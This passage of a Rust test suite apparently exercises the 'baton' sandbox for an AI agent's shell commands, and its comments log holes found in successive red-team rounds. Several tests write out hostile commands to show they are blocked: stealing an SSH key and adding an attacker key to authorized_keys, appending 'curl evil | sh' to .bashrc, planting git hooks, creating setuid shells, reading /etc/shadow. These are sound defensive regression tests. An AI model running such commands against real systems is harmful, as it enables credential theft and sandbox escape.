    // reached the host's daemon from inside the sandbox.
    let f = fixture();
    let host_sock = f.outside.join("daemon.sock");
    let _daemon = std::os::unix::net::UnixListener::bind(&host_sock).expect("bind");
    let own_sock = f.ws.join("own.sock");
    let _own = std::os::unix::net::UnixListener::bind(&own_sock).expect("bind");
    // A daemon that binds through a link (`current` → a release folder): bubblewrap cannot
    // make a mount point through the link, and every command failed to start.
    std::fs::create_dir_all(f.outside.join("release")).expect("mkdir");
    std::os::unix::fs::symlink(f.outside.join("release"), f.outside.join("current")).expect("link");
    let linked_sock = f.outside.join("current/app.sock");
    let _linked = std::os::unix::net::UnixListener::bind(&linked_sock).expect("bind");
    // Round 33: a socket behind another account's private folder is out of every command's
    // reach, and bubblewrap cannot cover it (every command of root's failed to start). Root
    // only (the folder is given to another account).
    let private_sock = f.outside.join("priv/s.sock");
    let root = rustix::process::geteuid().is_root();
    std::fs::create_dir_all(f.outside.join("priv")).expect("mkdir");
    let _private = std::os::unix::net::UnixListener::bind(&private_sock).expect("bind");
    // A daemon's socket has been there a while (a socket bound within the last seconds is
    // left uncovered: it may be gone by the time bubblewrap would mount its cover).
    let now = std::time::UNIX_EPOCH.elapsed().expect("clock").as_secs();
    let hour_ago = libc::timespec {
        tv_sec: now.saturating_sub(3600) as libc::time_t,
        tv_nsec: 0,
    };
    for sock in [&host_sock, &linked_sock, &private_sock] {
        let c_path = std::ffi::CString::new(sock.as_os_str().as_encoded_bytes()).expect("path");
        // SAFETY: a NUL-terminated path and two valid timespecs.
        let set =
            unsafe { libc::utimensat(libc::AT_FDCWD, c_path.as_ptr(), [hour_ago; 2].as_ptr(), 0) };
        assert_eq!(set, 0, "{}", std::io::Error::last_os_error());
    }
    if root {
        std::os::unix::fs::chown(f.outside.join("priv"), Some(65534), Some(65534)).expect("chown");
        std::fs::set_permissions(f.outside.join("priv"), PermissionsExt::from_mode(0o700))
            .expect("chmod");
    }
    let script = format!(
        "$PY -c '\nimport socket, sys\nfor p in sys.argv[1:]:\n  s = socket.socket(socket.AF_UNIX)\n  try:\n    s.connect(p); print(\"connected\", p)\n  except OSError as e:\n    print(\"refused\", p, e.errno)\n' {} {} {}",
        host_sock.display(),
        own_sock.display(),
        linked_sock.display()
    );
    for network in [false, true] {
        let flags: &[&std::ffi::OsStr] = if network {
            &["--network".as_ref()]
        } else {
            &[]
        };
        let out = baton_sandbox_with(&f, flags, &script)
            .stdin(Stdio::null())
            .output()
            .expect("run");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains(&format!("refused {}", host_sock.display())),
            "network {network}: {text}{}",
            String::from_utf8_lossy(&out.stderr)
        );
        // A socket in the workspace is the command's own business.
        assert!(
            text.contains(&format!("connected {}", own_sock.display())),
            "network {network}: {text}"
        );
        assert!(
            text.contains(&format!("refused {}", linked_sock.display())),
            "network {network}: {text}"
        );
    }
    // The user may allow one.
    let out = baton_sandbox_with(
        &f,
        &["--allow-unix-socket".as_ref(), host_sock.as_os_str()],
        &script,
    )
    .stdin(Stdio::null())
    .output()
    .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains(&format!("connected {}", host_sock.display())),
        "{text}"
    );
    // A command of a test running beside this one may have listed the socket and be about to
    // cover it: a cover whose path vanished fails that command's start. The paths stay (plain
    // files now, not covered by the next ones) a while before the fixture goes.
    for (sock, plain) in [
        (&host_sock, f.outside.join("plain")),
        (
            &f.outside.join("release/app.sock"),
            f.outside.join("release/plain"),
        ),
    ] {
        std::fs::write(&plain, "").expect("plain");
        std::fs::rename(&plain, sock).expect("rename");
    }
    drop(_daemon);
    drop(_linked);
    // Past any start-up that listed them while they listened (seconds under a loaded CI).
    std::thread::sleep(std::time::Duration::from_secs(3));
}

#[test]
fn a_git_file_or_commondir_naming_a_hidden_folder_does_not_show_it() {
    // The sandbox pins the gitdir a `.git` file or a `commondir` names; bound read-only where
    // it pointed, it showed the hidden home (and ~/.kube, ~/.aws) to every command after.
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    for (p, text) in [
        (".kube/config", "s3cret-kube"),
        ("notes/private.txt", "s3cret-notes"),
    ] {
        plant(&home, p, text);
    }
    let script = format!(
        "cat {h}/.kube/config {h}/notes/private.txt {h}/config 2>/dev/null; echo done",
        h = home.display()
    );
    let shows_no_secret = || {
        let out = baton_sandbox(&f, &[], &script)
            .stdin(Stdio::null())
            .output()
            .expect("run");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("done"),
            "{text}{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!text.contains("s3cret"), "{text}");
    };
    // The fixture's workspace has a `.git` folder: its `commondir` names the home.
    std::fs::write(f.ws.join(".git/commondir"), format!("{}\n", home.display())).expect("w");
    shows_no_secret();
    // A `.git` file naming ~/.kube.
    std::fs::remove_dir_all(f.ws.join(".git")).expect("rm");
    std::fs::write(
        f.ws.join(".git"),
        format!("gitdir: {}\n", home.join(".kube").display()),
    )
    .expect("w");
    shows_no_secret();
}

/// A folder the sandbox binds from the workspace (`.git`, pinned read-write, with its config
/// and hooks read-only on top) swapped with a link to another repository's gitdir while
/// commands start, as a command still running could: bubblewrap mounts what baton opened,
/// never a name it resolves again, and the helper refuses a world where a swap landed anyway,
/// so no command writes the other repository (seventh red team, critical: a running command
/// won this race within 5–93 starts and planted `commondir` there).
#[test]
fn a_bound_folder_swapped_for_a_link_while_commands_start_lets_nothing_write_outside() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::time::{Duration, Instant};
    let f = fixture();
    let victim = f.outside.join("repo/.git");
    std::fs::create_dir_all(victim.join("hooks")).expect("mkdir");
    std::fs::write(victim.join("HEAD"), "ref: refs/heads/main\n").expect("HEAD");
    std::fs::write(victim.join("config"), "[core]\n").expect("config");
    std::os::unix::fs::symlink(&victim, f.ws.join("gl")).expect("link");
    let stop = Arc::new(AtomicBool::new(false));
    // The attacker swaps `.git` and `gl` as fast as it can and puts things back as they were
    // whenever the audit after a command moved a link aside (`.git.disabled-by-baton`).
    let attacker = {
        let (ws, victim) = (f.ws.clone(), victim.clone());
        let (git, gl) = (ws.join(".git"), ws.join("gl"));
        let repair = move || {
            for entry in std::fs::read_dir(&ws).into_iter().flatten().flatten() {
                if entry.file_name().to_string_lossy().contains("baton") {
                    let _ = std::fs::remove_file(entry.path());
                }
            }
            if git.is_symlink() {
                let _ = std::fs::remove_file(&git);
            }
            if !git.exists() && gl.is_dir() && !gl.is_symlink() {
                let _ = std::fs::rename(&gl, &git);
            }
            if !gl.exists() && !gl.is_symlink() {
                let _ = std::os::unix::fs::symlink(&victim, &gl);
            }
        };
        super::file_tools::swap_forever_repairing(
            f.ws.join(".git"),
            f.ws.join("gl"),
            stop.clone(),
            repair,
        )
    };
    // The old code was written within 6 and 27 starts; the attacker takes a core meanwhile.
    let deadline = Instant::now() + Duration::from_secs(5);
    let (mut ran, mut refused) = (0, 0);
    while Instant::now() < deadline && ran + refused < 60 && !victim.join("planted").exists() {
        let status = baton_sandbox(
            &f,
            &[],
            "for d in .git gl; do [ -e $d/HEAD ] && echo planted > $d/planted; done 2>/dev/null; true",
        )
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("run baton sandbox");
        if status.success() {
            ran += 1;
        } else {
            refused += 1;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = attacker.join().expect("attacker");
    eprintln!("bind race: {swaps} swaps, {ran} commands ran, {refused} refused");
    assert!(swaps > 0, "the attacker never swapped");
    assert!(ran > 0, "no command ran: the race proves nothing");
    assert!(
        !victim.join("planted").exists(),
        "a sandboxed command wrote another repository's gitdir after {ran} commands \
         ({refused} refused, {swaps} swaps)"
    );
}

/// A writable root inside another (`--write ~/code`, the workspace `~/code/team/proj`): a
/// command renames `team` and leaves a link in its place to a folder whose `proj` links to
/// `~/.ssh`. A session's roots are the paths it resolved first, opened with no link followed,
/// so its next command is refused instead of getting `~/.ssh` read-write as its workspace
/// (eighth red team, high: the old code read the key and wrote `authorized_keys`).
#[test]
fn a_root_whose_path_a_command_redirected_is_not_bound_where_it_now_leads() {
    use serde_json::json;
    let env = crate::support::env::Env::new();
    let code = env.home.join("code");
    let proj = code.join("team/proj");
    std::fs::create_dir_all(&proj).expect("mkdir");
    std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
    std::fs::write(env.home.join(".ssh/id_ed25519"), "PRIVATE_KEY_SECRET\n").expect("key");
    let calls = [
        (
            "shell",
            json!({"command": "cd ~/code && mkdir x && ln -s ~/.ssh x/proj && mv team team.real && ln -s x team && echo swapped"}),
        ),
        (
            "shell",
            json!({"command": "cat ~/.ssh/id_ed25519; echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys; echo appended=$?"}),
        ),
    ];
    let code_arg = code.display().to_string();
    let (ends, sent) = super::hidden::session(&env, &proj, &calls, &["--write", &code_arg]);
    let first = ends.first().map(|e| e.to_string()).unwrap_or_default();
    assert!(
        first.contains("swapped"),
        "the attack's first step did not run: {first}"
    );
    assert!(
        !sent.contains("PRIVATE_KEY_SECRET"),
        "the key reached the model: {ends:?}"
    );
    assert!(
        !env.home.join(".ssh/authorized_keys").exists(),
        "a command wrote ~/.ssh"
    );
}

/// `core.hooksPath` set in a file the repository's config includes (a tracked `.gitconfig`
/// pulled in with `include.path = ../.gitconfig`, as projects share settings): the hooks
/// folder it names is read-only to commands like one set in `.git/config` (eighth red team,
/// high: the old code looked for the key only in the config files themselves, and a command
/// planted a hook the user's next `git commit` ran).
#[test]
fn a_hooks_path_set_in_an_included_config_is_read_only_to_commands() {
    let f = fixture();
    std::fs::write(
        f.ws.join(".git/config"),
        "[core]\n[include]\n\tpath = ../.gitconfig\n",
    )
    .expect("config");
    std::fs::write(f.ws.join(".gitconfig"), "[core]\n\thooksPath = .githooks\n").expect("inc");
    std::fs::create_dir_all(f.ws.join(".githooks")).expect("mkdir");
    let text = sandbox_output(
        &f,
        "printf '#!/bin/sh\\ntouch /tmp/ran\\n' > .githooks/pre-commit && chmod +x .githooks/pre-commit && echo planted",
    );
    assert!(!text.contains("planted"), "{text}");
    assert!(!f.ws.join(".githooks/pre-commit").exists(), "{text}");
}

/// A program your git settings name inside the work tree (`core.fsmonitor = scripts/fsmon` in
/// `~/.gitconfig`, a filter's `clean`): commands cannot rewrite it for your next `git status`
/// (eighth red team, low: the old code left it an ordinary workspace file).
#[test]
fn a_program_git_settings_name_in_the_work_tree_is_read_only_to_commands() {
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    std::fs::create_dir_all(&home).expect("home");
    std::fs::write(
        home.join(".gitconfig"),
        // Round 37: also the script a setting hands an interpreter.
        "[core]\n\tfsmonitor = scripts/fsmon\n[filter \"x\"]\n\tclean = ./scripts/clean --in\n\
         [diff \"nb\"]\n\ttextconv = python3 scripts/conv.py\n",
    )
    .expect("gitconfig");
    std::fs::create_dir_all(f.ws.join("scripts")).expect("mkdir");
    for name in ["fsmon", "clean", "conv.py"] {
        std::fs::write(f.ws.join("scripts").join(name), "#!/bin/sh\nexit 0\n").expect("w");
    }
    let text = sandbox_output(
        &f,
        "for p in scripts/fsmon scripts/clean scripts/conv.py; do echo 'touch /tmp/ran' >> $p && echo rewrote $p; done; true",
    );
    assert!(!text.contains("rewrote"), "{text}");
    for name in ["fsmon", "clean", "conv.py"] {
        let body = std::fs::read_to_string(f.ws.join("scripts").join(name)).expect("read");
        assert_eq!(body, "#!/bin/sh\nexit 0\n", "{name} changed: {text}");
    }
}

/// Ninth red team, each a hole the old code had: a credential folder as the workspace (a path
/// whose folder a command swapped for a link leads there, and each `baton sandbox` resolves
/// its paths afresh), a toolchain folder that is a link showing the credentials inside it, a
/// hooks path set through git's environment, a read-only workspace bound by name.
#[test]
fn a_credential_folder_is_refused_as_a_workspace() {
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    std::fs::create_dir_all(home.join(".ssh")).expect("mkdir");
    let in_ssh = || {
        Command::new(env!("CARGO_BIN_EXE_baton"))
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &home)
            .args(["sandbox", "-C"])
            .arg(home.join(".ssh"))
            .args(["--", "true"])
            .stdin(Stdio::null())
            .output()
            .expect("run baton sandbox")
    };
    let out = in_ssh();
    let text = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{text}");
    assert!(text.contains("credentials"), "{text}");
    // The check runs beside the look at what the sandbox would show: a refused workspace gets
    // nothing made in it (the hooks folder and config git's pins need).
    std::fs::create_dir_all(home.join(".ssh/.git")).expect("mkdir");
    let out = in_ssh();
    assert_eq!(out.status.code(), Some(2));
    assert!(!home.join(".ssh/.git/hooks").exists());
    assert!(!home.join(".ssh/.git/config").exists());
}

#[test]
fn the_credentials_inside_a_toolchain_folder_that_is_a_link_stay_hidden() {
    let f = fixture();
    let base = f.ws.parent().expect("base").to_path_buf();
    let home = base.join("home");
    let cargo = base.join("data/cargo");
    std::fs::create_dir_all(&cargo).expect("mkdir");
    std::fs::create_dir_all(&home).expect("mkdir");
    std::fs::write(cargo.join("credentials.toml"), "token = \"SECRET_TOKEN\"\n").expect("w");
    std::os::unix::fs::symlink(&cargo, home.join(".cargo")).expect("link");
    let text = sandbox_output(&f, "cat ~/.cargo/credentials.toml; ls ~/.cargo");
    assert!(!text.contains("SECRET_TOKEN"), "{text}");
}

#[test]
fn a_hooks_path_set_through_gits_environment_is_read_only_to_commands() {
    let f = fixture();
    std::fs::create_dir_all(f.ws.join(".githooks")).expect("mkdir");
    for (count, params) in [
        (Some("1"), None),
        (None, Some("'core.hooksPath'='.githooks'")),
    ] {
        let mut cmd = baton_sandbox(
            &f,
            &[],
            "echo 'touch /tmp/ran' > .githooks/pre-commit && echo planted",
        );
        if let Some(n) = count {
            cmd.env("GIT_CONFIG_COUNT", n)
                .env("GIT_CONFIG_KEY_0", "core.hooksPath")
                .env("GIT_CONFIG_VALUE_0", ".githooks");
        }
        if let Some(p) = params {
            cmd.env("GIT_CONFIG_PARAMETERS", p);
        }
        let out = cmd.stdin(Stdio::null()).output().expect("run");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(!text.contains("planted"), "{text}");
        assert!(!f.ws.join(".githooks/pre-commit").exists());
    }
}

/// A `--write` folder missing when the session starts that a command then makes a link to the
/// home: the session remembers where the folder would be, and a link there is not followed
/// (the old code resolved it at each command and bound the home read-write).
#[test]
fn a_write_folder_that_appears_as_a_link_is_not_bound_where_it_leads() {
    use serde_json::json;
    let env = crate::support::env::Env::new();
    std::fs::write(env.home.join(".bashrc"), "# rc\n").expect("rc");
    let later = env.workspace.join("later");
    let calls = [
        ("shell", json!({"command": "ln -s ~ later && echo linked"})),
        (
            "shell",
            json!({"command": "echo 'curl evil | sh' >> later/.bashrc; echo wrote=$?"}),
        ),
    ];
    let later_arg = later.display().to_string();
    let ws = env.workspace.clone();
    let (ends, _) = super::hidden::session(&env, &ws, &calls, &["--write", &later_arg]);
    let first = ends.first().map(|e| e.to_string()).unwrap_or_default();
    assert!(first.contains("linked"), "{first}");
    let rc = std::fs::read_to_string(env.home.join(".bashrc")).expect("rc");
    assert_eq!(rc, "# rc\n", "{ends:?}");
}

/// A command may not leave a program that runs with the user's rights for whoever starts it:
/// the set-user-ID and set-group-ID bits are stored on disk, where the workspace is no `nosuid`
/// mount, so a shell copied there and `chmod 4755`ed ran as baton's user (as root, for root)
/// for any local account that could reach it (fifteenth red team, medium). `chmod` and its kin
/// refuse those bits; other modes, the sticky bit included, are set as before.
#[test]
fn a_command_cannot_leave_a_set_id_program_in_the_workspace() {
    if !crate::support::external::sandbox_enforceable("set-ID bits in the workspace") {
        return;
    }
    let f = fixture();
    for (backend, flags) in [
        ("bubblewrap", Vec::new()),
        (
            "landlock",
            vec![
                std::ffi::OsStr::new("--sandbox-backend"),
                "landlock".as_ref(),
            ],
        ),
    ] {
        let script = "cp /bin/sh tool; chmod 755 tool; chmod 4755 tool; chmod g+s tool; \
                      $PY -c 'import os; os.chmod(\"tool\", 0o6755)'; stat -c %a tool";
        let out = baton_sandbox_with(&f, &flags, script)
            .stdin(Stdio::null())
            .output()
            .expect("run baton sandbox");
        let text = String::from_utf8_lossy(&out.stdout);
        let mode = std::fs::metadata(f.ws.join("tool")).expect("tool").mode() & 0o7777;
        assert_eq!(mode, 0o755, "{backend}: {text}");
        // Nor through `mknod` of a regular file or `openat2`, whose mode a filter cannot read
        // (sixteenth red team: a set-group-ID file without group execute keeps the bit at a
        // write, and an ACL then makes it executable).
        let other_ways = r#"$PY -c '
import ctypes, os, struct
try:
    os.mknod("by-mknod", 0o102745)
except OSError as e:
    print("mknod", e.errno)
libc = ctypes.CDLL(None, use_errno=True)
how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, 0o2745, 0))
print("openat2", libc.syscall(437, -100, b"by-openat2", how, 24), ctypes.get_errno())
'"#;
        let out = baton_sandbox_with(&f, &flags, other_ways)
            .stdin(Stdio::null())
            .output()
            .expect("run baton sandbox");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("mknod 1"), "{backend}: {text}");
        assert!(text.contains("openat2 -1 38"), "{backend}: {text}");
        for made in ["by-mknod", "by-openat2"] {
            assert!(!f.ws.join(made).exists(), "{backend}: {made}: {text}");
        }
        // Other modes are the command's to set.
        let out = baton_sandbox_with(&f, &flags, "mkdir -p d; chmod 1777 d; chmod 700 tool")
            .stdin(Stdio::null())
            .output()
            .expect("run baton sandbox");
        assert!(out.status.success(), "{backend}");
        let mode_of = |p: &str| std::fs::metadata(f.ws.join(p)).expect("stat").mode() & 0o7777;
        assert_eq!(
            (mode_of("tool"), mode_of("d")),
            (0o700, 0o1777),
            "{backend}"
        );
        std::fs::remove_file(f.ws.join("tool")).expect("rm");
    }
}

/// A command holds no capability on either backend, as root too: under Landlock it runs in
/// the caller's user namespace, where root's command kept all but one (eighteenth red team,
/// high: `setcap cap_setuid+ep` on a copy of python in the workspace made any local account
/// root; `chown` and `chattr +i` reached files outside).
#[test]
fn a_command_holds_no_capability_on_either_backend() {
    if !crate::support::external::sandbox_enforceable("capabilities") {
        return;
    }
    let f = fixture();
    let outside = f.outside.join("owned");
    std::fs::write(&outside, "x").expect("outside");
    let o = outside.display();
    let script = format!(
        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status; \
         $PY -c 'import os; os.setxattr(\"{o}\", \"security.capability\", b\"\\x01\\x00\\x00\\x02\\xc0\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\")' 2>/dev/null && echo setcap-done; \
         $PY -c 'import os; os.chown(\"{o}\", 4242, 4242)' 2>/dev/null && echo chown-done; \
         $PY -c 'import os; os.setuid(4242); print(\"setuid-done\")' 2>/dev/null; true"
    );
    for flags in [vec![], vec!["--sandbox-backend", "landlock"]] {
        let flags: Vec<&std::ffi::OsStr> = flags.iter().map(std::ffi::OsStr::new).collect();
        let out = baton_sandbox_with(&f, &flags, &script)
            .stdin(Stdio::null())
            .output()
            .expect("run baton sandbox");
        let text = String::from_utf8_lossy(&out.stdout);
        for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
            assert!(
                text.contains(&format!("{set}:\t0000000000000000")),
                "{flags:?}: {set} not empty: {text} {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        for done in ["setcap-done", "chown-done", "setuid-done"] {
            assert!(!text.contains(done), "{flags:?}: {text}");
        }
    }
    let meta = std::fs::metadata(&outside).expect("stat");
    assert_ne!(meta.uid(), 4242);
}

/// A command-only variable (`BATON_COMMAND_ENV_NAME`) reaches the command under its own name
/// on both backends and with the sandbox off, and nothing outside reads it under that name: a
/// `LD_PRELOAD` so given is loaded by the command alone, never by baton or bubblewrap.
#[test]
fn a_command_only_variable_reaches_the_command_alone() {
    if !crate::support::external::sandbox_enforceable("command-only variables") {
        return;
    }
    let f = fixture();
    let missing = f.outside.join("missing.so");
    let script = "echo \"$GREETING $HOME\"; env | grep -c '^BATON_COMMAND_ENV_'";
    for flags in [
        vec![],
        vec!["--sandbox-backend", "landlock"],
        vec!["--sandbox", "off"],
    ] {
        let flags: Vec<&std::ffi::OsStr> = flags.iter().map(std::ffi::OsStr::new).collect();
        let out = baton_sandbox_with(&f, &flags, script)
            .env("BATON_COMMAND_ENV_GREETING", "hello")
            .env("BATON_COMMAND_ENV_HOME", "/command/home")
            .env("BATON_COMMAND_ENV_LD_PRELOAD", &missing)
            .stdin(Stdio::null())
            .output()
            .expect("run baton sandbox");
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stdout, "hello /command/home\n0\n", "{flags:?}: {stderr}");
        // The loader complains once per program it starts with the library: `bash` and
        // `grep` (and `env`), never baton or bubblewrap before them.
        let complaints = stderr.matches("cannot be preloaded").count();
        assert!(
            (1..=3).contains(&complaints),
            "{flags:?}: {complaints} programs loaded it: {stderr}"
        );
        assert!(!stderr.contains("bwrap"), "{flags:?}: {stderr}");
    }
}

/// Round 31 (high): the credentials hidden in the home were left where a variable moved their
/// folder: `$XDG_CONFIG_HOME/git/credentials` and `$CARGO_HOME/credentials.toml` outside the
/// home were readable by commands.
#[test]
fn credentials_where_a_variable_moved_their_folder_stay_hidden() {
    let f = fixture();
    let xdg = f.outside.join("xdg");
    let cargo = f.outside.join("cargo");
    std::fs::create_dir_all(xdg.join("git")).expect("mkdir");
    std::fs::create_dir_all(&cargo).expect("mkdir");
    std::fs::write(xdg.join("git/credentials"), "https://u:xdg-s3cret@h\n").expect("write");
    // Round 33: the rest of a moved XDG folder is the home's too (Copilot's token); its
    // toolchain folders (git's settings) stay shown.
    std::fs::create_dir_all(xdg.join("github-copilot")).expect("mkdir");
    std::fs::write(xdg.join("github-copilot/hosts.json"), "copilot-s3cret").expect("write");
    std::fs::write(xdg.join("git/config"), "[user]\n\tname = visible\n").expect("write");
    std::fs::write(cargo.join("credentials.toml"), "token = \"cargo-s3cret\"\n").expect("write");
    std::fs::write(cargo.join("env"), "visible\n").expect("write");
    // Round 32: named through a link (a mount at the name failed every command).
    std::os::unix::fs::symlink(&cargo, f.outside.join("cargo-link")).expect("link");
    let x = xdg.clone().into_os_string();
    let c = f.outside.join("cargo-link").into_os_string();
    let out = baton_sandbox(
        &f,
        &[("XDG_CONFIG_HOME", &x), ("CARGO_HOME", &c)],
        &format!(
            "cat {0}/git/credentials {1}/credentials.toml {1}/env {0}/github-copilot/hosts.json \
             {0}/git/config 2>&1; echo done",
            xdg.display(),
            cargo.display()
        ),
    )
    .stdin(Stdio::null())
    .output()
    .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("done") && text.contains("visible\n"),
        "{text}"
    );
    assert!(text.contains("name = visible"), "{text}");
    assert!(
        !text.contains("s3cret"),
        "a moved credential reached the command: {text}"
    );
}

/// Round 32 (high): credentials a variable of their own program moves out of the home
/// (`GNUPGHOME`, `KUBECONFIG`, `AWS_SHARED_CREDENTIALS_FILE`, `HF_HOME`'s token… set to a
/// data folder, as CI images do) were readable by commands. `HISTFILE=/dev/null` must not
/// hide `/dev/null`, and the rest of `HF_HOME` (the model cache) stays.
#[test]
fn credentials_named_by_their_own_variables_stay_hidden() {
    let f = fixture();
    let o = &f.outside;
    std::fs::create_dir_all(o.join("gnupg/private-keys-v1.d")).expect("mkdir");
    std::fs::create_dir_all(o.join("hf/hub")).expect("mkdir");
    for (file, text) in [
        ("gnupg/private-keys-v1.d/k.key", "gpg-s3cret"),
        ("kube-a", "kube-s3cret-a"),
        ("kube-b", "kube-s3cret-b"),
        ("aws-credentials", "aws-s3cret"),
        ("hf/token", "hf-s3cret"),
        ("psql_history", "psql-s3cret"),
        ("client.key", "key-s3cret"),
        ("mylogin", "mylogin-s3cret"),
        ("deploy_key", "deploy-s3cret"),
        ("zdot/.zsh_history", "zsh-s3cret"),
        ("s3cfg", "s3cmd-s3cret"),
        ("volta/tools/image/node/20.1.0/etc/npmrc", "volta-s3cret"),
        ("signing.key", "signing-s3cret"),
        ("kube-path", "kube-path-s3cret"),
        ("android/adbkey", "adb-s3cret"),
        ("rsync_key", "rsync-s3cret"),
        ("hf/hub/model.txt", "cached model"),
        ("ca.pem", "PUBLIC-CA"),
    ] {
        let path = o.join(file);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    }
    let at = |p: &str| o.join(p).into_os_string();
    let kube = std::env::join_paths([o.join("kube-a"), o.join("kube-b")]).expect("join");
    let dev_null = OsString::from("/dev/null");
    let ssh_command = OsString::from(format!("ssh -i {}", o.join("deploy_key").display()));
    let signing = OsString::from(format!("--key={}", o.join("signing.key").display()));
    let rsync = OsString::from(format!("ssh -i {}", o.join("rsync_key").display()));
    let out = baton_sandbox(
        &f,
        &[
            ("GNUPGHOME", &at("gnupg")),
            ("KUBECONFIG", &kube),
            ("AWS_SHARED_CREDENTIALS_FILE", &at("aws-credentials")),
            ("HF_HOME", &at("hf")),
            ("HISTFILE", &dev_null),
            // Round 33: no list names every such variable; a name like a history's or a
            // credential's is enough.
            ("PSQL_HISTORY", &at("psql_history")),
            ("GIT_SSL_KEY", &at("client.key")),
            ("MYSQL_TEST_LOGIN_FILE", &at("mylogin")),
            // Round 34: folders their program's own variable moves.
            ("ZDOTDIR", &at("zdot")),
            ("S3CMD_CONFIG", &at("s3cfg")),
            ("VOLTA_HOME", &at("volta")),
            // Round 34: after an option, and ssh's key given to rsync.
            ("MY_SECRET", &signing),
            // Round 35.
            ("KUBE_CONFIG_PATH", &at("kube-path")),
            ("ANDROID_USER_HOME", &at("android")),
            ("RSYNC_RSH", &rsync),
            ("GIT_SSH_COMMAND", &ssh_command),
            // Certificate authorities are public: a bundle stays readable (TLS needs it).
            ("AWS_CA_BUNDLE", &at("ca.pem")),
        ],
        &format!(
            "cd {}; cat gnupg/private-keys-v1.d/k.key kube-a kube-b aws-credentials hf/token \
             psql_history client.key mylogin deploy_key zdot/.zsh_history s3cfg \\
             volta/tools/image/node/20.1.0/etc/npmrc signing.key rsync_key \\
             kube-path android/adbkey hf/hub/model.txt ca.pem 2>&1; echo; echo ok > /dev/null && echo done",
            o.display()
        ),
    )
    .stdin(Stdio::null())
    .output()
    .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("done") && text.contains("cached model") && text.contains("PUBLIC-CA"),
        "{text}"
    );
    assert!(
        !text.contains("s3cret"),
        "a credential its variable names reached the command: {text}"
    );
}

/// Round 32 (high ×2, low): another account's home that `/etc/passwd` names through a link
/// was shown (at the link and where it leads), one above uid 65535 was shown, and one under
/// a linked folder stopped every command (`bwrap: Can't mkdir`). The accounts are added to a
/// copy of `/etc/passwd` bound in a mount namespace of the test's own. Root only.
#[test]
fn other_accounts_homes_stay_hidden_wherever_passwd_puts_them() {
    if !outside::can_bind() {
        return;
    }
    let f = fixture();
    let o = &f.outside;
    let mut passwd = std::fs::read_to_string("/etc/passwd").expect("passwd");
    let mut add = |name: &str, uid: u32, named: PathBuf, real: PathBuf| {
        std::fs::create_dir_all(&real).expect("mkdir");
        std::fs::write(real.join(".pypirc"), format!("password = {name}-s3cret\n")).expect("w");
        for p in [&real, &real.join(".pypirc")] {
            std::os::unix::fs::chown(p, Some(uid), Some(uid)).expect("chown");
        }
        passwd.push_str(&format!(
            "{name}:x:{uid}:{uid}::{}:/bin/sh\n",
            named.display()
        ));
    };
    std::fs::create_dir_all(o.join("real")).expect("mkdir");
    std::os::unix::fs::symlink(o.join("real/dave"), o.join("dave")).expect("link");
    add("dave", 1004, o.join("dave"), o.join("real/dave"));
    add("erin", 100000, o.join("erin"), o.join("erin"));
    std::os::unix::fs::symlink(o.join("real"), o.join("rl")).expect("link");
    add("ed", 1005, o.join("rl/ed"), o.join("real/ed"));
    let copy = o.join("passwd");
    std::fs::write(&copy, passwd).expect("passwd copy");
    let script = format!(
        "cd {}; cat dave/.pypirc real/dave/.pypirc erin/.pypirc real/ed/.pypirc 2>&1; echo done",
        o.display()
    );
    let sandbox = baton_sandbox(&f, &[], &script);
    let out = outside::with_bind(&copy, Path::new("/etc/passwd"), &sandbox)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        text.contains("done"),
        "the command did not run: {text} {stderr}"
    );
    assert!(
        !text.contains("s3cret"),
        "another account's home reached the command: {text}"
    );
}

/// Round 32 (medium): a command run by root is root without capabilities, still the owner of
/// the host's root-only secrets: it read `/etc/shadow` and the TLS private keys. Root only.
#[test]
fn the_hosts_own_secrets_stay_hidden_from_roots_commands() {
    if !rustix::process::geteuid().is_root() || !Path::new("/etc/shadow").is_file() {
        eprintln!("needs root and /etc/shadow: not checked");
        return;
    }
    let f = fixture();
    let text = sandbox_output(
        &f,
        "cat /etc/shadow /etc/gshadow 2>/dev/null | wc -c; ls -A /etc/ssl/private 2>/dev/null | wc -l; echo done",
    );
    let counts: Vec<&str> = text.split_whitespace().collect();
    assert_eq!(counts.first(), Some(&"0"), "{text}");
    assert_eq!(counts.get(1), Some(&"0"), "{text}");
    assert!(text.contains("done"), "{text}");
}

/// Round 33 (critical, high): in a dotfiles repository the home links into (GNU stow, yadm,
/// rcm), a command rewrote `~/.bashrc`, `~/.ssh/config` and baton's own `hooks.json` through
/// the workspace: the user's next shell, `ssh` or baton session ran what it wrote. What the
/// home's start-up files link to is read-only for commands now, like a `~/.gitconfig` linked
